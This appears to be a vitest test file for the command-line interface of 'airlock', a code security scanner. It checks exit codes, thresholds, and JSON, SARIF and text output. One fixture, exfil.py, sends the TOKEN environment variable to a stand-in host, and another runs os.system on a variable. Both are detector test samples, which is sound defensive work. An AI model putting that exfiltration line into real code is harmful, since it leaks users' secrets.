import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { RecordingLogger } from '../support/recording-logger.js';
import type { CliIo } from '../../src/cli/cli-io.js';
import { scanCommand } from '../../src/cli/scan-command.js';
import { ConfigError } from '../../src/errors.js';
import { tempDir } from '../support/temp-dirs.js';

const workspace = tempDir('scan-cli');
const files: Record<string, string> = {
  'benign.py': 'import subprocess\nsubprocess.run(["git", "status"])\n',
  'shell.py': 'import os\nos.system(command)\n',
  'exfil.py': 'import os, requests\nrequests.post("https://x.example", data=os.environ["TOKEN"])\n',
  '.github/workflows/ci.yml': 'on: push\njobs: {}\n',
  '.github/airlock.yml': 'fail-on: never\n',
  'action.yml': 'name: x\n',
  CODEOWNERS: '* @owner\n',
  'config/settings.yml': 'debug: false\n',
};
for (const [path, content] of Object.entries(files)) {
  mkdirSync(dirname(join(workspace, path)), { recursive: true });
  writeFileSync(join(workspace, path), content);
}

interface Run {
  readonly code: number;
  readonly stdout: string;
  readonly log: RecordingLogger;
}

async function scan(...argv: string[]): Promise<Run> {
  let stdout = '';
  const log = new RecordingLogger();
  const io: CliIo = {
    argv,
    env: {},
    cwd: workspace,
    stdout: (text) => {
      stdout += text;
    },
    log,
    signal: new AbortController().signal,
  };
  return { code: await scanCommand(io), stdout, log };
}

const ruleIds = (run: Run) =>
  (JSON.parse(run.stdout) as { findings: { ruleId: string; path: string }[] }).findings;

describe('airlock scan on the command line', () => {
  afterAll(() => rmSync(workspace, { recursive: true, force: true }));

  it('exits 0 when nothing reaches the default threshold (high)', async () => {
    expect((await scan('benign.py')).code).toBe(0);
  });

  it('exits 1 when a finding reaches the threshold', async () => {
    expect((await scan('shell.py')).code).toBe(1);
    expect((await scan('--fail-on', 'low', 'benign.py')).code).toBe(1);
  });

  it('exits 0 when findings stay below --fail-on, and always with never', async () => {
    expect((await scan('--fail-on', 'critical', 'shell.py')).code).toBe(0);
    expect((await scan('--fail-on', 'never', 'exfil.py')).code).toBe(0);
    expect((await scan('--fail-on', 'critical', 'exfil.py')).code).toBe(1);
  });

  it('prints the JSON contract: findings with every field, and stats', async () => {
    const run = await scan('--format', 'json', '--fail-on', 'never', 'shell.py');
    const report = JSON.parse(run.stdout) as { findings: object[]; stats: object };
    expect(Object.keys(report).sort()).toEqual(['findings', 'stats']);
    expect(report.findings.length).toBeGreaterThan(0);
    for (const finding of report.findings)
      expect(Object.keys(finding).sort()).toEqual(
        ['ruleId', 'severity', 'category', 'message', 'path', 'line', 'column']
          .concat(['endLine', 'cwe', 'evidence'])
          .sort(),
      );
    expect(report.stats).toEqual({
      files: 1,
      lines: 3,
      durationMs: expect.any(Number),
      skipped: [],
    });
  });

  it('prints SARIF 2.1.0 with the automation id', async () => {
    const run = await scan('--format', 'sarif', 'shell.py');
    const sarif = JSON.parse(run.stdout) as {
      version: string;
      runs: { automationDetails: { id: string }; results: { ruleId: string }[] }[];
    };
    expect(run.code).toBe(1);
    expect(sarif.version).toBe('2.1.0');
    expect(sarif.runs[0]?.automationDetails.id).toBe('airlock/scan/');
    expect(sarif.runs[0]?.results.map((result) => result.ruleId)).toContain('proc-shell-command');
  });

  it('writes the report to --output instead of stdout, and keeps the exit status', async () => {
    const run = await scan('--format', 'json', '--output', 'out/report.json', 'shell.py');
    expect(run.stdout).toBe('');
    expect(run.code).toBe(1);
    expect(run.log.lines.map((line) => line.text).join('\n')).toMatch(/wrote \d+ finding/);
    const written = JSON.parse(readFileSync(join(workspace, 'out/report.json'), 'utf8'));
    expect(written.findings.length).toBeGreaterThan(0);
  });

  it('prints text by default', async () => {
    const run = await scan('shell.py');
    expect(run.stdout).toContain('proc-shell-command');
  });

  it('prints usage for --help and exits 0', async () => {
    const run = await scan('--help');
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('Usage: airlock scan');
  });

  it.each([
    ['no PATHs and no --diff', []],
    ['an unknown format', ['--format', 'xml', 'shell.py']],
    ['an unknown threshold', ['--fail-on', 'severe', 'shell.py']],
    ['an unknown option', ['--fast', 'shell.py']],
    ['--diff together with PATHs', ['--diff', 'HEAD~1..HEAD', 'shell.py']],
    ['a --diff that is not a range', ['--diff', 'HEAD']],
    ['a PATH that does not exist', ['missing.py']],
  ])('rejects %s as a usage error (the CLI exits 2)', async (_name, argv) => {
    await expect(scan(...argv)).rejects.toBeInstanceOf(ConfigError);
  });

  it('reports CI, code-owner and gate files given as PATHs as added', async () => {
    const run = await scan('--format', 'json', '--fail-on', 'never', '.github', 'action.yml');
    const gate = ruleIds(await scan('--format', 'json', '--fail-on', 'never', 'CODEOWNERS'));
    const flagged = [...ruleIds(run), ...gate]
      .filter((finding) => finding.ruleId === 'ci-config-changed')
      .map((finding) => finding.path)
      .sort();
    expect(flagged).toEqual([
      '.github/airlock.yml',
      '.github/workflows/ci.yml',
      'CODEOWNERS',
      'action.yml',
    ]);
  });

  it('leaves other configuration files alone', async () => {
    const run = await scan('--format', 'json', 'config/settings.yml');
    expect(ruleIds(run)).toEqual([]);
    expect(run.code).toBe(0);
  });
});
